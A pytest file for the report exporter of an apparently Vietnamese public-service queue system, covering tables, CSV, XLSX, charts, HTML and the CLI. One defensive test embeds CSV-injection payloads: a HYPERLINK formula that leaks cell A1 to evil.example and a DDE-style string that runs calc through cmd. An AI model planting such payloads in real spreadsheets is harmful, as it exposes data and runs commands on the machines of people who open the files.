"""What the head gets: terminal table, CSV, XLSX, charts, HTML — and the CLI that writes them."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest
from PIL import Image

from hubd.ledger import Ledger
from tests.reports.conftest import NOW, at, open_centre
from xephang_ops import cli
from xephang_reports import charts as report_charts
from xephang_reports import render as report_render
from xephang_reports.build import (
    MQTT_BUDGET_BYTES,
    ReportTooLarge,
    build_report,
    compact,
    open_readonly,
    pack_rows,
    reconcile,
    report_from_ledger,
    report_over_mqtt,
    unpack_report,
    unpack_rows,
)


@pytest.fixture(scope="module")
def day1(story_ledger, site):
    return report_from_ledger(story_ledger, site, period="2026-11-23", group_by="service", lang="vi", now=NOW)


def test_terminal_table_in_vietnamese_with_flag_markers(day1):
    text = report_render.render_table(day1)
    assert "BÁO CÁO HÀNG ĐỢI — Ngày 23/11/2026 (23/11/2026 – 23/11/2026), theo lĩnh vực" in text
    for heading in ("Lĩnh vực", "Lấy số", "Đã phục vụ", "Vắng mặt sau cùng", "Chờ trung vị", "Đạt mục tiêu chờ",
                    "Phục vụ TB", "Hài lòng", "Thời gian của các quầy (giờ)", "Chuyển đến", "Lượt báo vắng",
                    "Giờ mở cửa", "Đóng"):
        assert heading in text
    ho = next(line for line in text.splitlines() if line.startswith("Hộ tịch") and "%" in line and "*" in line)
    # wait 8,5 / 8,5 / 11,3; 100% within target; service 6,7* (400 s) 7,0* 7,8* — vi decimals, inferred marks
    assert ho.split()[2:9] == ["8,5", "8,5", "11,3", "100,0%", "6,7*", "7,0*", "7,8*"]
    assert ho.split()[9:] == []  # walk and service from arrival: nobody pressed "arrived" in this story, so
    assert "Đi đến quầy TB" not in text and "không lượt gọi nào ghi nhận lúc công dân đến quầy" in text  # … left out, and said
    dd = next(line for line in text.splitlines() if line.startswith("Đất đai") and "%" in line)
    assert "5,0" in dd and "5,0†" not in dd  # a quiet evening is not a clock jump
    assert "‡ 1 lượt phục vụ còn mở khi qua ngày" in text
    assert "* 2 lượt phục vụ kết thúc suy ra" in text
    assert "Giờ đông nhất: 08:00–09:00 (5; 5,0/ngày)" in text


def test_terminal_table_in_english(story_ledger, site):
    r = report_from_ledger(story_ledger, site, period="2026-11-23", group_by="counter", lang="en", now=NOW)
    text = report_render.render_table(r)
    assert "QUEUE REPORT — 23/11/2026" in text and "by counter" in text
    counts, calls, times, load = (line for line in text.splitlines() if line.startswith("Counter 2"))
    # issued by service, not counter: in the total; C came in by transfer, D left as a final no-show
    assert counts.split()[2:10] == ["—", "—", "2", "1", "—", "—", "0", "—"]
    # calls: D twice (no-show, no-show), C, F: 4 = 2 served + 2 no-show presses
    assert calls.split()[2:7] == ["4", "2", "2", "0", "0"]
    assert times.split()[2:5] == ["12.5", "12.5", "18.5"]  # D waited 5, F 20 (first called at counter 2)
    # opening hours 9.5 + outside 7.3 (F until 00:20) = serving 0.4 + idle 15.8 + paused 0 + closed 0.6 (before 08:08)
    assert load.split()[2:] == ["Trần", "Văn", "Hùng", "4", "9.5", "7.3", "0.4", "15.8", "0.0", "0.6", "0"]
    assert "the tickets table balances in the total only" in text


def test_csv_opens_with_vietnamese_letters_and_plain_numbers(day1, tmp_path):
    path = report_render.write_csv(day1, tmp_path / "r.csv")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    head = rows[0]
    assert head[:4] == ["Lĩnh vực", "Lấy số", "Chuyển đến", "Đã phục vụ"]
    assert {"Vắng mặt sau cùng", "Lượt báo vắng", "Chuyển đi", "Còn mở", "Lượt gọi", "Đang phục vụ"} <= set(head)
    ho = dict(zip(head, rows[1], strict=True))
    assert ho["Lĩnh vực"] == "Hộ tịch"
    assert (ho["Lấy số"], ho["Chờ TB (phút)"], ho["Đạt mục tiêu chờ"], ho["Đánh giá 5"]) == ("3", "8.5", "1.0", "1")
    assert rows[-1][0] == "Tổng cộng" and rows[-1][1] == "8"


def test_xlsx_has_report_hours_counters_and_charts(day1, tmp_path):
    path = report_render.write_xlsx(day1, tmp_path / "r.xlsx")
    with zipfile.ZipFile(path) as z:
        names = z.namelist()
        book = z.read("xl/workbook.xml").decode()
        strings = z.read("xl/sharedStrings.xml").decode()
        sheet1 = z.read("xl/worksheets/sheet1.xml").decode()
    for sheet in ("Báo cáo", "Theo giờ", "Quầy", "Biểu đồ"):
        assert f'name="{sheet}"' in book
    assert "Hộ tịch" in strings and "Đạt mục tiêu chờ" in strings
    assert sum(n.startswith("xl/media/") for n in names) == 3
    assert "<v>8.5</v>" in sheet1  # minutes stored as numbers, not text


def test_a_name_that_looks_like_a_formula_stays_text_in_csv_and_xlsx(day1, tmp_path):
    """A name from a site file or a centre's feed opened by the head in Excel or LibreOffice: text,
    never a formula that runs or a link (CSV injection)."""
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Hộ tịch")'
    rep = json.loads(json.dumps(day1))
    rep["rows"][0]["label"] = evil
    rep["counter_load"][0]["officer"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    rows = list(csv.reader(io.StringIO(report_render.write_csv(rep, tmp_path / "r.csv").read_bytes().decode("utf-8-sig"))))
    assert rows[1][0] == "'" + evil and rows[1][1] == "3"  # the figures stay numbers
    assert report_render.csv_text("-") == "'-" and report_render.csv_text(-1.5) == -1.5
    with zipfile.ZipFile(report_render.write_xlsx(rep, tmp_path / "r.xlsx")) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        strings = z.read("xl/sharedStrings.xml").decode()
    assert not any("<f>" in x or "<hyperlink" in x for x in sheets)  # no formula or link cell anywhere
    assert "HYPERLINK" in strings and "@SUM" in strings  # the names, as text


def test_charts_are_pngs_and_empty_periods_still_draw(day1, story_ledger, site):
    pngs = report_charts.chart_pngs(day1)
    assert set(pngs) == {"arrivals-per-hour", "wait-distribution", "counter-load"}
    for data in pngs.values():
        im = Image.open(io.BytesIO(data))
        assert im.format == "PNG" and im.size == (report_charts.WIDTH, report_charts.HEIGHT)
    empty = report_from_ledger(story_ledger, site, period="2025-01", group_by="service", lang="vi", now=NOW)
    assert empty["totals"]["issued"] == 0
    for data in report_charts.chart_pngs(empty).values():
        assert Image.open(io.BytesIO(data)).size == (report_charts.WIDTH, report_charts.HEIGHT)
    assert "Tổng cộng" in report_render.render_table(empty)


def test_html_is_one_printable_self_contained_file(day1):
    page = report_render.render_html(day1)
    assert page.startswith("<!DOCTYPE html>") and '<html lang="vi">' in page
    assert page.count("data:image/png;base64,") == 3
    assert page.count("@font-face") == 2 and "@page { size: A4 landscape" in page
    assert "http://" not in page and "https://" not in page  # nothing to fetch: prints offline
    assert "Giám đốc Trung tâm" in page and "Hộ tịch" in page


def test_cli_writes_every_output(story_ledger, site_file, tmp_path, capsys):
    out = tmp_path / "out"
    out.mkdir()
    rc = cli.main(["report", "--ledger", str(story_ledger), "--site-file", str(site_file), "--period", "2026-11-23",
                   "--group-by", "hour", "--now", "2026-11-24 10:00", "--csv", str(out / "r.csv"),
                   "--xlsx", str(out / "r.xlsx"), "--html", str(out / "r.html"), "--charts", str(out / "charts"),
                   "--json", str(out / "r.json")])
    assert rc == 0
    captured = capsys.readouterr()
    assert "theo giờ" in captured.out and "00:00–01:00" in captured.out
    assert captured.err.count("written:") == 7
    data = json.loads((out / "r.json").read_text(encoding="utf-8"))
    assert data["group_by"] == "hour" and data["totals"]["issued"] == 8
    assert sorted(p.name for p in (out / "charts").iterdir()) == \
        ["arrivals-per-hour.png", "counter-load.png", "wait-distribution.png"]


@pytest.mark.parametrize(("extra", "message"), [
    (["--period", "2026-13"], "Không đọc được kỳ báo cáo “2026-13”. Hãy ghi: today (hôm nay)"),  # the web's words
    (["--period", "2026-13", "--lang", "en"], "The period “2026-13” cannot be read. Write: today"),
    (["--period", "2026-13", "--mqtt", "--port", "1", "--timeout", "0.5"], "Không đọc được kỳ báo cáo"),  # not asked
    (["--group-by", "weather"], "group_by 'weather'"),
])
def test_cli_explains_bad_input(story_ledger, site_file, capsys, extra, message):
    rc = cli.main(["report", "--ledger", str(story_ledger), "--site-file", str(site_file), *extra])
    assert rc == 1 and message in capsys.readouterr().err


def test_cli_without_ledger_says_where_it_looked(tmp_path, site_file, capsys):
    rc = cli.main(["report", "--state-dir", str(tmp_path), "--site-file", str(site_file)])
    err = capsys.readouterr().err
    assert rc == 1 and str(tmp_path / "ledger.sqlite") in err and "--ledger" in err


def test_report_reads_while_the_hub_is_writing(site, tmp_path):
    c = open_centre(site, tmp_path / "ledger.sqlite")
    c.issue("ho-tich", 0)
    reader = open_readonly(c.path)
    with c.ledger.transaction():  # the hub is in the middle of a group commit
        out = c.engine.issue("ho-tich", None, now=at(1))
        c.ledger.write(c.engine, out)
        mid = build_report(reader, site, period="2026-11-23", now=at(2))
        assert mid["totals"]["issued"] == 1  # the committed state, without waiting for the writer
    after = build_report(reader, site, period="2026-11-23", now=at(2))
    assert after["totals"]["issued"] == 2
    with pytest.raises(Exception, match="readonly|read-only|query_only"):
        reader.execute("DELETE FROM tickets")
    # and the reader never blocks the hub's next commit
    c.do("issue", "ho-tich", None, minute=3)
    reader.close()
    assert Ledger(c.path).db.execute("SELECT COUNT(*) FROM tickets").fetchone()[0] == 3


def test_compact_keeps_mqtt_replies_small(story_ledger, site):
    r = report_from_ledger(story_ledger, site, period="2026-11-23..2026-11-24", group_by="hour", lang="vi", now=NOW)
    size = len(json.dumps(r, ensure_ascii=False).encode())
    assert compact(r, budget=size) is r
    slim = compact(r, budget=size - 1)
    assert slim["compact"] is True and "ratings" not in slim["rows"][0] and "ratings" in slim["totals"]
    # only what the note says is left out: every other figure of every row is there, and adds up
    assert [{k: v for k, v in row.items() if k != "ratings"} for row in r["rows"]] == slim["rows"]
    assert reconcile(slim) == []
    assert "rút gọn" in report_render.render_table(slim)
    with pytest.raises(ReportTooLarge):
        compact(r, budget=1000)


@pytest.mark.parametrize("group_by", ["service", "counter", "officer", "day", "hour"])
def test_packed_rows_come_back_as_they_were(story_ledger, site, group_by):
    r = json.loads(json.dumps(report_from_ledger(story_ledger, site, period="2026-11-23..2026-11-24",
                                                 group_by=group_by, lang="en", now=NOW)))
    r["rows"][0]["ratings"] = {}  # an empty object, and a key one row lacks, survive too
    r["rows"][-1].pop("flags", None)
    packed = json.loads(json.dumps(pack_rows(r["rows"])))
    assert unpack_rows(packed) == r["rows"]
    assert unpack_report({**{k: v for k, v in r.items() if k != "rows"}, "rows_packed": packed}) == r
    assert unpack_report(r) is r  # a report sent as it is
    for bad in ({"columns": [["a"]], "values": [[1, 2]], "missing": []}, {"values": []}, {"columns": 3}):
        with pytest.raises(ValueError):
            unpack_rows(bad)


def test_a_quarter_by_day_fits_one_reply_packed_and_loses_nothing(site, tmp_path):
    """A quarter by day (~80 open days of ~130 tickets) was refused; packed it is a third of the budget."""
    from datetime import date, datetime

    from tests.benchmod import load_bench
    from xephang.clock import VN_TZ

    path = tmp_path / "q4.sqlite"
    load_bench("report_quarter").generate_history(path, site, first=date(2026, 10, 1), days=92, tickets_per_day=130,
                                                  seed=3)
    now = datetime(2027, 1, 5, 10, tzinfo=VN_TZ).timestamp()
    with pytest.raises(ReportTooLarge):
        report_over_mqtt(path, site, period="2026-Q4", group_by="day", lang="vi", now=now)
    sent = report_over_mqtt(path, site, period="2026-Q4", group_by="day", lang="vi", now=now, packed=True)
    assert len(json.dumps(sent, ensure_ascii=False).encode()) < MQTT_BUDGET_BYTES / 2 and "compact" not in sent
    full = json.loads(json.dumps(report_from_ledger(path, site, period="2026-Q4", group_by="day", lang="vi", now=now)))
    assert len(full["rows"]) > 75 and unpack_report(sent) == full and reconcile(unpack_report(sent)) == []


@pytest.mark.parametrize("lang", ["vi", "en"])
def test_every_column_and_its_statistic_is_defined_in_the_notes(day1, lang):
    """Each output prints the definitions (docs/reports.md): within target, satisfied, the arrivals,
    called out of order and how a median or P90 is made were in no output."""
    import re

    from xephang_reports.render import ALL_COLUMNS, notes

    text = " ".join(notes({**day1, "lang": lang})).lower()
    for col in ALL_COLUMNS:
        heading = col.heading(lang)
        stem = re.sub(r" (TB|trung vị|P90|avg|median)$", "", heading)
        assert stem.lower() in text, (lang, heading)
        if stem != heading:
            assert heading[len(stem) + 1:].lower() in text, (lang, heading)
